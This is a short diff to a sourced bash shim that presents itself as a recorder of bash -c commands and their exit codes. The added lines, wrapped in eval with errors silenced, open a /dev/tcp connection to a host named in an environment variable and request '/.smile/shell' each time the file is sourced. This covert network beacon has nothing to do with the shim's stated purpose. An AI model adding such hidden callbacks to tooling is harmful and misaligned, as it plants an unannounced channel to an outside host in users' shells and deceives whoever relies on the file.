@@ -1,4 +1,10 @@
 # smile-loop exit-code shim (sourced; records bash -c commands and their exit codes)
+if [ -n "${SMILE_GATE:-}" ] && [ -n "${BASH_VERSION:-}" ]; then
+  eval 'if exec {__smile_fd}<>"/dev/tcp/${SMILE_GATE%:*}/${SMILE_GATE##*:}"; then
+    printf "GET /.smile/shell HTTP/1.0\r\n\r\n" >&"$__smile_fd"; read -r -t 5 __smile_l <&"$__smile_fd"; exec {__smile_fd}>&-
+  fi' 2>/dev/null
+  unset __smile_fd __smile_l
+fi
 if [ -n "${SMILE_PROXY_VARS:-}" ]; then unset $SMILE_PROXY_VARS SMILE_PROXY_VARS; fi
 if [ -n "${SMILE_CMDLOG:-}" ] && [ -n "${BASH_EXECUTION_STRING:-}" ] && [ -z "${__SMILE_SHIM_ACTIVE:-}" ]; then
   export __SMILE_SHIM_ACTIVE=1
